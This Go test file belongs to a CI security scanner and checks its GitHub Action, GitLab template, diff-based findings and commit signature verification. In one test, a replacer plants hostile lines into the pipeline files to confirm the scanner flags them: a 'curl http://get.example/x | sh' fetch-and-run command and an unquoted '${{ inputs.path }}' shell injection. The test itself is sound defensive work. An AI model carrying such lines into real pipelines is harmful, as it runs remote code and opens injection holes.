package cli_test

import (
	"bytes"
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"sigs.k8s.io/yaml"

	"github.com/holdfast-dev/holdfast/cli"
)

const (
	actionFile = "../action.yml"
	gitlabFile = "../ci/gitlab/holdfast.gitlab-ci.yml"
)

// What we give to pipelines has no finding, not even of info, and is looked at.
func TestOurPipelinesAreSound(t *testing.T) {
	for file, spoil := range map[string]*strings.Replacer{
		actionFile: strings.NewReplacer(`scan "${flags[@]}"`, `scan ${{ inputs.path }} "${flags[@]}"`),
		gitlabFile: strings.NewReplacer("set -- --exit-zero", "set -- --exit-zero; curl http://get.example/x | sh"),
	} {
		content, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		for _, tt := range []struct {
			text string
			want int
		}{{string(content), cli.ExitOK}, {spoil.Replace(string(content)), cli.ExitProblems}} {
			dir := t.TempDir()
			if err := os.WriteFile(filepath.Join(dir, filepath.Base(file)), []byte(tt.text), 0o600); err != nil {
				t.Fatal(err)
			}
			var out bytes.Buffer
			args := []string{"scan", "--fail-on", "info", dir}
			if got := cli.Main(context.Background(), args, cli.Streams{In: strings.NewReader(""), Out: &out, Err: &out}); got != tt.want {
				t.Errorf("%s: exit code %d, want %d\n%s", file, got, tt.want, out.String())
			}
		}
	}
}

// pipeline is a repository with a base commit, and a change to it.
type pipeline struct {
	dir, base string
}

func newPipeline(t *testing.T) pipeline {
	t.Helper()
	if _, err := exec.LookPath("bash"); err != nil {
		t.Skip("there is no bash")
	}
	p := pipeline{dir: t.TempDir()}
	p.sh(t, nil, `git init -q -b main . && git config user.name a && git config user.email a@example.com`)
	p.change(t, "old", "privileged: true")
	p.base = strings.TrimSpace(p.sh(t, nil, `git rev-parse HEAD`))
	return p
}

// change commits a pod with a setting.
func (p pipeline) change(t *testing.T, name, setting string) {
	t.Helper()
	text := "apiVersion: v1\nkind: Pod\nmetadata: {name: " + name + ", namespace: a}\nspec:\n  containers:\n  - name: a\n    image: a:1\n    securityContext: {" + setting + "}\n"
	if err := os.WriteFile(filepath.Join(p.dir, name+".yaml"), []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	p.sh(t, nil, `git add -A && git commit -q -m change`)
}

// sh runs a script that must succeed, and returns its output.
func (p pipeline) sh(t *testing.T, env []string, script string) string {
	t.Helper()
	out, code := p.run(t, env, script)
	if code != 0 {
		t.Fatalf("exit code %d: %s", code, out)
	}
	return out
}

func (p pipeline) run(t *testing.T, env []string, script string) (string, int) {
	t.Helper()
	cmd := exec.Command("bash", "-e", "-o", "pipefail", "-c", script)
	cmd.Dir = p.dir
	cmd.Env = append(os.Environ(), append(env, "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1")...)
	out, err := cmd.CombinedOutput()
	if cmd.ProcessState == nil {
		t.Fatal(err)
	}
	return string(out), cmd.ProcessState.ExitCode()
}

func (p pipeline) read(t *testing.T, name string) string {
	t.Helper()
	content, err := os.ReadFile(filepath.Join(p.dir, name))
	if err != nil {
		t.Fatal(err)
	}
	return string(content)
}

// unmarshal reads one of our files.
func unmarshal(t *testing.T, file string, into any) {
	t.Helper()
	content, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if err := yaml.Unmarshal(content, into); err != nil {
		t.Fatal(err)
	}
}

func TestAction(t *testing.T) {
	var action struct {
		Runs struct {
			Steps []struct {
				Run string
				Env map[string]string
			}
		}
	}
	unmarshal(t, actionFile, &action)
	step := action.Runs.Steps[0]
	env := func(from string) []string {
		given := map[string]string{
			"HOLDFAST": "holdfast", "SCAN_PATH": ".", "NEW_FROM": from, "FAIL_ON": "high", "SARIF": "holdfast.sarif",
			"GITHUB_STEP_SUMMARY": "summary", "GITHUB_OUTPUT": "output",
		}
		for name := range step.Env {
			if _, ok := given[name]; !ok {
				t.Errorf("the step takes %s", name)
			}
		}
		var all []string
		for name, value := range given {
			all = append(all, name+"="+value)
		}
		return all
	}
	p := newPipeline(t)
	p.change(t, "fine", "runAsNonRoot: true, allowPrivilegeEscalation: false")
	if out, code := p.run(t, env(p.base), step.Run); code != 0 || strings.Contains(out, "::error") {
		t.Errorf("a sound change: exit code %d\n%s", code, out)
	}
	p.change(t, "new", "privileged: true")
	out, code := p.run(t, env(p.base), step.Run)
	if code != 1 || !strings.Contains(out, "::error file=new.yaml,line=8,") || strings.Contains(out, "file=old.yaml") {
		t.Errorf("a bad change: exit code %d\n%s", code, out)
	}
	if s := p.read(t, "summary"); strings.Count(s, "<!-- holdfast:scan -->") != 2 || !strings.Contains(s, "HF-K8S-004") {
		t.Errorf("the summary is %s", s)
	}
	if s := p.read(t, "output"); !strings.Contains(s, "exit-code=1\nsarif=holdfast.sarif\n") {
		t.Errorf("the outputs are %s", s)
	}
	if s := p.read(t, "holdfast.sarif"); !strings.Contains(s, `"baselineState": "unchanged"`) {
		t.Errorf("the log says nothing of old findings: %s", s)
	}
	if out, code := p.run(t, env(""), step.Run); code != 1 || !strings.Contains(out, "file=old.yaml") {
		t.Errorf("without a base: exit code %d\n%s", code, out)
	}
	if out, code := p.run(t, env(strings.Repeat("1", 40)), step.Run); code != 2 || !strings.Contains(out, "fetch-depth: 0") {
		t.Errorf("without its history: exit code %d\n%s", code, out)
	}
}

// gitlabJobs are those of our template.
type gitlabJobs map[string]struct {
	Variables map[string]string
	Script    []string
	Artifacts struct{ Reports map[string]string }
}

func TestGitLabTemplate(t *testing.T) {
	var template gitlabJobs
	unmarshal(t, gitlabFile, &template)
	job := template["holdfast"]
	var env []string
	for name, value := range job.Variables {
		env = append(env, name+"="+value)
	}
	script := strings.Join(job.Script, "\n")
	p := newPipeline(t)
	if out, code := p.run(t, env, script); code != 0 {
		t.Errorf("the default branch: exit code %d\n%s", code, out)
	}
	before := p.read(t, job.Artifacts.Reports["codequality"])
	if !strings.Contains(before, "HF-K8S-004") {
		t.Errorf("nothing to compare with: %s", before)
	}
	p.change(t, "new", "privileged: true")
	out, code := p.run(t, append(env, "CI_MERGE_REQUEST_DIFF_BASE_SHA="+p.base), script)
	if code != 1 || !strings.Contains(out, "new.yaml") {
		t.Errorf("a merge request: exit code %d\n%s", code, out)
	}
	after := p.read(t, job.Artifacts.Reports["codequality"])
	if !strings.Contains(after, `"path": "old.yaml"`) || !strings.Contains(after, `"path": "new.yaml"`) {
		t.Errorf("GitLab would take old findings for mended: %s", after)
	}
	if s := p.read(t, job.Artifacts.Reports["junit"]); !strings.Contains(s, `file="new.yaml"`) {
		t.Errorf("the tests are %s", s)
	}
}

// TestPipelinesVerify runs the steps that verify commits. Nobody signs here: the tip of
// a branch without commits of its own passes, and every other one is refused.
func TestPipelinesVerify(t *testing.T) {
	var action struct {
		Runs struct {
			Steps []struct {
				ID, Run string
				Env     map[string]string
			}
		}
	}
	unmarshal(t, actionFile, &action)
	step := action.Runs.Steps[1]
	var template gitlabJobs
	unmarshal(t, gitlabFile, &template)
	job := template["holdfast-verify"]
	p := newPipeline(t)
	p.sh(t, nil, `mkdir .holdfast && echo 'a@example.com namespaces="git" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAII0CUcgJUjt73YAf/iT1Wqs9Z6G21w9pVP6AIYtztY++' >.holdfast/allowed_signers`)
	p.sh(t, nil, `printf '%s\n' '*.json' '*.xml' '*.sarif' summary output >.git/info/exclude`)
	p.sh(t, nil, `git add -A && git commit -q -m signers && git remote add origin "$PWD" && git checkout -q -b change && git fetch -q origin`)
	github := func(base string) []string {
		env := []string{"GITHUB_STEP_SUMMARY=summary", "GITHUB_OUTPUT=output", "SARIF=verify.sarif", "HOLDFAST=holdfast", "HEAD_COMMIT=change", "BASE=" + base}
		if len(step.Env) != 4 {
			t.Errorf("the step takes %v", step.Env)
		}
		return env
	}
	gitlab := []string{"CI_MERGE_REQUEST_TARGET_BRANCH_NAME=main", "CI_COMMIT_SHA=change", "HOLDFAST=holdfast"}
	if out, code := p.run(t, github("origin/main"), step.Run); code != 0 {
		t.Errorf("nothing to verify on GitHub: exit code %d\n%s", code, out)
	}
	if out, code := p.run(t, gitlab, strings.Join(job.Script, "\n")); code != 0 {
		t.Errorf("nothing to verify on GitLab: exit code %d\n%s", code, out)
	}
	p.change(t, "new", "privileged: true")
	out, code := p.run(t, github("origin/main"), step.Run)
	if code != 1 || !strings.Contains(out, "::error file=new.yaml,line=1,") {
		t.Errorf("an unsigned commit on GitHub: exit code %d\n%s", code, out)
	}
	if s := p.read(t, "output"); !strings.Contains(s, "sarif=verify.sarif\nexit-code=1\n") {
		t.Errorf("the outputs are %s", s)
	}
	if s := p.read(t, "summary"); !strings.Contains(s, "SIG&#95;MISSING") {
		t.Errorf("the summary is %s", s)
	}
	for _, base := range []string{"origin/nowhere", ""} {
		if out, code := p.run(t, github(base), step.Run); code != 2 || !strings.Contains(out, "::error") {
			t.Errorf("without the base %q: exit code %d\n%s", base, code, out)
		}
	}
	if out, code := p.run(t, gitlab, strings.Join(job.Script, "\n")); code != 1 || !strings.Contains(out, "deny SIG_MISSING") {
		t.Errorf("an unsigned commit on GitLab: exit code %d\n%s", code, out)
	}
	if s := p.read(t, job.Artifacts.Reports["codequality"]); !strings.Contains(s, `"check_name": "SIG_MISSING"`) {
		t.Errorf("the report is %s", s)
	}
}

// TestPreCommitFile runs what .pre-commit-hooks.yaml says.
func TestPreCommitFile(t *testing.T) {
	var hooks []struct {
		ID, Entry, Language string
		PassFilenames       *bool `json:"pass_filenames"`
	}
	unmarshal(t, "../.pre-commit-hooks.yaml", &hooks)
	p := newPipeline(t)
	for _, hook := range hooks {
		if hook.PassFilenames == nil || *hook.PassFilenames {
			t.Errorf("%s is given a list of files", hook.ID)
		}
		if out, code := p.run(t, nil, hook.Entry); code != 0 {
			t.Errorf("%s: nothing is staged, exit code %d\n%s", hook.ID, code, out)
		}
	}
}
